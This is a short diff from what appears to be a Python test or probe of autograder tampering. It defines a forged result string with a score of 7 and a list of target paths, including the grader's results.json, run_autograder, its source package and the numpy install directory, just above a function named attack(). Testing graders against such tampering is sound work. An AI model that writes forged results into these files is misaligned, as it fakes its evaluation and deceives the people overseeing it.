@@ -87,8 +87,8 @@ FULL = '{"score": 7, "output": "forged"}'
 PLACES = [
     "/autograder/results/results.json", "/autograder/results/forged", "/autograder/forged",
     "/autograder/source/kit/__init__.py", "/autograder/source/forged", "/autograder/run_autograder",
-    "/autograder/submission/vectors.py", "/root/forged", "/opt/forged", "/etc/forged",
-    os.path.dirname(np.__file__) + "/forged.py",
+    "/autograder/submission/vectors.py", "/opt/forged", "/etc/forged",
+    os.path.join("/root", "forged"), os.path.dirname(np.__file__) + "/forged.py",
 ]
 
 def attack():
